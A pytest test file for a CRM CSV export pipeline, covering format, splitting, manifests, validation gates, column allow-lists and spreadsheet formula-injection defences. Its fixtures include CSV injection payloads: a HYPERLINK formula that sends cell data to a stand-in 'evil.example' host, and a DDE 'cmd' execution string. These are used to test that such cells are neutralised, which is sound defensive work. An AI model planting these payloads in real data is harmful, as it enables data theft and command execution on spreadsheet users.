"""The CRM export: bytes, formula injection, splitting, the manifest, re-runs, gates and the allowed columns."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from datetime import date, timedelta

import pandas as pd
import pytest

from pipelines import crm_export, lake
from pipelines.config import Paths
from pipelines.errors import GateFailed, SegoneError
from pipelines.runs import write_run_metrics

DAY = date(2026, 11, 19)
CRAFTED = {
    "C0003": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "C0004": "+1 call us",
    "C0005": "-2+3",
    "C0006": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C0007": "\tTab first",
    "C0008": "\rCarriage return first",
    "C0009": 'Commas, "quotes" and\na line break',
}
DESCRIPTIONS = ["TESCO STORES 3021 LONDON", "PAYPAL *SECRETSHOP", "RENT TO J SMITH FLAT 4B"]
MERCHANTS = ["Tesco Stores", "SecretShop Ltd"]


def nba_frame(n_customers: int = 40) -> pd.DataFrame:
    rows = []
    for i in range(n_customers):
        customer = f"C{i:04d}"
        for rank, (action, cls) in enumerate([("shortfall_warning", "protective"), ("bill_reminder", "service"),
                                              ("isa", "commercial")], start=1):
            explanation = (f"{action}: Suggested because you have about £{1000 + i} that you could save today; "
                           f"you have savings of £{20000 + i} that could earn tax-free interest.")
            if rank == 1 and customer in CRAFTED:
                explanation = CRAFTED[customer]
            rows.append({
                "recommendation_id": hashlib.md5(f"{customer}|{action}".encode()).hexdigest(),
                "customer_id": customer, "rank": rank, "action_id": action, "action_class": cls,
                "channel": "email", "priority": 10.0 / rank, "propensity": 0.1, "value": 25.0,
                "logging_probability": 1.0 if cls == "protective" else 0.925, "is_exploration": rank == 3,
                "is_control": False,
                "reasons": f"your balance is £{i * 13}.45 after TESCO STORES 3021 LONDON",
                "explanation": explanation, "policy_version": "nba-v1",
                "valid_until": DAY + timedelta(days=7 * rank),
                "bucket": int(lake.bucket_of([customer])[0]),
            })
    frame = pd.DataFrame(rows).sample(frac=1.0, random_state=3)  # the export must sort, not rely on file order
    frame["rank"] = frame["rank"].astype("int32")
    return frame


def make_lake(paths: Paths, passed: bool = True, n_customers: int = 40) -> None:
    frame = nba_frame(n_customers)
    lake.write_frame(frame, lake.partition_path(paths, "gold", "next_best_actions", as_of=DAY.isoformat()), paths,
                     partition_by=["bucket"])
    tx = pd.DataFrame({"transaction_id": ["t1", "t2", "t3"], "customer_id": ["C0001", "C0002", "C0003"],
                       "description": DESCRIPTIONS, "merchant_name": MERCHANTS + [None],
                       "amount": [-12.5, -99.99, -800.0], "bucket": [0, 0, 0]})
    lake.write_frame(tx, lake.partition_path(paths, "silver", "transactions", load_date=DAY.isoformat()), paths,
                     partition_by=["bucket"])
    set_gates(paths, passed)


def set_gates(paths: Paths, passed: bool) -> None:
    write_run_metrics(paths, DAY.isoformat(), "validate", {
        "passed": passed, "suites": {},
        "gates": [{"name": "quarantine_share:transactions", "passed": passed,
                   "message": "transactions: 9 of 10 rows quarantined" if not passed else "ok"}]})


def export_bytes(folder) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def read_rows(folder) -> list[dict[str, str]]:
    _, rows = crm_export.read_export(folder)
    return rows


def test_bytes_are_utf8_lf_header_iso_dates(paths: Paths) -> None:
    make_lake(paths)
    manifest = crm_export.export_crm(paths, DAY)
    folder = paths.exports / "crm" / DAY.isoformat()
    assert [f["name"] for f in manifest["files"]] == ["next_best_actions.csv"]
    data = (folder / "next_best_actions.csv").read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert b"\r" not in data
    data.decode("utf-8")  # valid UTF-8 (the £ of the crafted texts would fail otherwise)
    assert data.split(b"\n", 1)[0].decode() == ",".join(crm_export.EXPORT_COLUMNS)
    assert data.endswith(b"\n")
    rows = read_rows(folder)
    assert len(rows) == 120
    for row in rows:
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["as_of"]) and row["as_of"] == "2026-11-19"
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["valid_until"])
        assert row["is_exploration"] in {"true", "false"} and row["is_control"] in {"true", "false"}
    assert [(r["customer_id"], int(r["rank"])) for r in rows] == sorted((r["customer_id"], int(r["rank"]))
                                                                       for r in rows)
    assert len({r["recommendation_id"] for r in rows}) == len(rows)


def test_formula_injection_is_neutralised(paths: Paths) -> None:
    make_lake(paths)
    crm_export.export_crm(paths, DAY)
    rows = {(r["customer_id"], r["rank"]): r for r in read_rows(paths.exports / "crm" / DAY.isoformat())}
    for customer, text in CRAFTED.items():
        got = rows[(customer, "1")]["explanation"]
        if text.startswith(crm_export.FORMULA_TRIGGERS):
            assert got.startswith("'"), got
            assert got == "'" + text.replace("\r", "\n")
        else:
            assert got == text  # commas, quotes and a line break survive the quoting as they were
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(crm_export.FORMULA_TRIGGERS), value


def test_apostrophe_cell_round_trips_through_csv_reader() -> None:
    text = '=HYPERLINK("http://x.example","y")'
    cell = crm_export.text_cell(text)
    assert cell == "'" + text
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerow(["id", cell])
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == ["id", "'" + text]
    for trigger in ("+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert crm_export.text_cell(trigger).startswith("'")
    assert crm_export.text_cell("Plain text") == "Plain text"
    assert crm_export.text_cell("it's fine") == "it's fine"


def test_split_below_max_size_keeps_every_row_once(paths: Paths) -> None:
    make_lake(paths)
    manifest = crm_export.export_crm(paths, DAY, max_bytes=2048)
    folder = paths.exports / "crm" / DAY.isoformat()
    names = [f["name"] for f in manifest["files"]]
    assert len(names) > 3
    assert names == [f"next_best_actions-{i:04d}.csv" for i in range(1, len(names) + 1)]
    assert not (folder / "next_best_actions.csv").exists()
    header = ",".join(crm_export.EXPORT_COLUMNS).encode() + b"\n"
    ids = []
    for name in names:
        data = (folder / name).read_bytes()
        assert len(data) < 2048
        assert data.startswith(header)
        assert data.endswith(b"\n")
        part = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        assert part, name
        ids += [r["recommendation_id"] for r in part]
    source = nba_frame()
    assert sorted(ids) == sorted(source["recommendation_id"])
    assert len(ids) == len(set(ids))
    assert manifest["rows"] == len(source)


def test_manifest_matches_the_files(paths: Paths) -> None:
    make_lake(paths)
    manifest = crm_export.export_crm(paths, DAY, max_bytes=4096)
    folder = paths.exports / "crm" / DAY.isoformat()
    on_disk = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert on_disk["rows"] == 120 and manifest["rows"] == 120
    for key in ("schema_version", "run_id", "as_of", "files", "rows", "sha256", "columns", "created_by"):
        assert key in on_disk, key
    assert on_disk["as_of"] == "2026-11-19"
    assert on_disk["columns"] == crm_export.EXPORT_COLUMNS
    whole = hashlib.sha256()
    total = 0
    for f in on_disk["files"]:
        data = (folder / f["name"]).read_bytes()
        whole.update(data)
        assert hashlib.sha256(data).hexdigest() == f["sha256"]
        assert len(data) == f["bytes"]
        assert len(list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))) == f["rows"]
        total += f["rows"]
    assert total == on_disk["rows"]
    assert whole.hexdigest() == on_disk["sha256"]
    crm_export.read_export(folder)  # checks every file against the manifest
    assert sorted(p.name for p in folder.iterdir()) == sorted([*(f["name"] for f in on_disk["files"]),
                                                               "manifest.json"])


def test_rerun_is_byte_identical_and_airflow_run_id(paths: Paths) -> None:
    make_lake(paths)
    folder = paths.exports / "crm" / DAY.isoformat()
    first = crm_export.export_crm(paths, DAY, max_bytes=3000)
    before = export_bytes(folder)
    second = crm_export.export_crm(paths, DAY, max_bytes=3000)
    assert export_bytes(folder) == before
    assert first["run_id"] == second["run_id"] and first["run_id"].startswith("crm-2026-11-19-")
    third = crm_export.export_crm(paths, DAY, max_bytes=3000, run_id="scheduled__2026-11-19T00:00:00+00:00")
    assert third["run_id"] == "scheduled__2026-11-19T00:00:00+00:00"
    assert third["sha256"] == first["sha256"]
    assert not [p for p in folder.parent.iterdir() if p.name.startswith(".")]  # no staging left behind


def test_refuses_when_a_gate_failed_and_keeps_the_previous_export(paths: Paths) -> None:
    make_lake(paths)
    folder = paths.exports / "crm" / DAY.isoformat()
    crm_export.export_crm(paths, DAY)
    before = export_bytes(folder)
    set_gates(paths, passed=False)
    with pytest.raises(GateFailed, match="quarantine_share:transactions"):
        crm_export.export_crm(paths, DAY)
    assert export_bytes(folder) == before
    assert [p.name for p in folder.parent.iterdir()] == [DAY.isoformat()]

    set_gates(paths, passed=True)
    write_run_metrics(paths, DAY.isoformat(), "validate_gold_next_best_actions", {
        "passed": False, "suites": {"next_best_actions": {"success": False, "failures": []}}})
    with pytest.raises(GateFailed, match="gold_next_best_actions"):
        crm_export.export_crm(paths, DAY)
    assert export_bytes(folder) == before


def test_refuses_without_validation_and_writes_nothing(paths: Paths) -> None:
    make_lake(paths)
    (paths.runs / DAY.isoformat() / "validate.json").unlink()
    with pytest.raises(GateFailed, match="no landing validation"):
        crm_export.export_crm(paths, DAY)
    assert not (paths.exports / "crm" / DAY.isoformat()).exists()


def test_only_allowed_columns_and_no_transaction_data(paths: Paths) -> None:
    make_lake(paths)
    crm_export.export_crm(paths, DAY, max_bytes=5000)
    folder = paths.exports / "crm" / DAY.isoformat()
    rows = read_rows(folder)
    assert list(rows[0].keys()) == crm_export.EXPORT_COLUMNS
    assert set(crm_export.EXPORT_COLUMNS) == {
        "recommendation_id", "customer_id", "as_of", "rank", "action_id", "action_class", "channel", "priority",
        "logging_probability", "is_exploration", "is_control", "explanation", "policy_version", "valid_until"}
    con = lake.connect()
    silver = con.execute(f"select description, merchant_name from "
                         f"{lake.scan_sql(paths, 'silver', 'transactions')}").fetchall()
    con.close()
    forbidden = {v.lower() for pair in silver for v in pair if v} | {"tesco", "secretshop"}
    text = b"".join(export_bytes(folder).values()).decode("utf-8").lower()
    for needle in forbidden:
        assert needle not in text, needle
    for row in rows:
        assert "£" not in row["explanation"]  # money figures are put into words before they leave
        assert not re.search(r"\d{4,}", row["explanation"]), row["explanation"]


def test_money_is_put_into_words() -> None:
    assert crm_export.redact_money("you could move about £1585 to savings today") == \
        "you could move some money to savings today"
    assert crm_export.redact_money("you have savings of £13111 that could earn interest") == \
        "you have savings that could earn interest"
    assert crm_export.redact_money("a regular income arrives and about £1,585.50 is safe to save") == \
        "a regular income arrives and some money is safe to save"
    assert crm_export.redact_money("within 30 days (45% chance)") == "within 30 days (45% chance)"


# --- keys are never altered (issue 12, item 5) ------------------------------------------------------------------

def test_keys_the_contract_allows_are_exported_verbatim(paths: Paths) -> None:
    """A customer_id such as `-A1` is a valid id of the landing contract: the upsert key and the other keys must
    reach the CRM exactly as they are, never with a formula apostrophe."""
    frame = nba_frame(3)
    frame.loc[frame["customer_id"] == "C0001", "customer_id"] = "-A1"
    frame.loc[frame["action_id"] == "isa", "action_id"] = "-isa"
    frame.loc[frame.index[0], "recommendation_id"] = "-0123abc"
    frame["bucket"] = [int(b) for b in lake.bucket_of(frame["customer_id"].tolist())]
    lake.write_frame(frame, lake.partition_path(paths, "gold", "next_best_actions", as_of=DAY.isoformat()), paths,
                     partition_by=["bucket"])
    set_gates(paths, True)
    crm_export.export_crm(paths, DAY)
    rows = read_rows(paths.exports / "crm" / DAY.isoformat())
    assert sorted({r["customer_id"] for r in rows}) == ["-A1", "C0000", "C0002"]
    assert "-isa" in {r["action_id"] for r in rows}
    assert "-0123abc" in {r["recommendation_id"] for r in rows}
    for row in rows:
        for column in crm_export.KEY_COLUMNS:
            assert not row[column].startswith("'"), row


def test_a_key_outside_the_id_alphabet_stops_the_export_instead_of_being_altered(paths: Paths) -> None:
    frame = nba_frame(2)
    frame.loc[frame.index[0], "customer_id"] = '=HYPERLINK("http://x")'
    lake.write_frame(frame, lake.partition_path(paths, "gold", "next_best_actions", as_of=DAY.isoformat()), paths,
                     partition_by=["bucket"])
    set_gates(paths, True)
    with pytest.raises(SegoneError, match="customer_id .* is not an id"):
        crm_export.export_crm(paths, DAY)
    assert not (paths.exports / "crm" / DAY.isoformat()).exists()


@pytest.mark.parametrize("text", ["\x00=HYPERLINK(\"http://evil.example\")", "\x1b+1 call", "\x7f@SUM(1)",
                                  "\x00\x01-2+3", "\r\n=cmd"])
def test_control_characters_are_stripped_before_the_formula_check(text: str) -> None:
    cell = crm_export.text_cell(text)
    assert cell.startswith("'"), repr(cell)
    assert not any(c in cell for c in "\x00\x01\x1b\x7f\r")
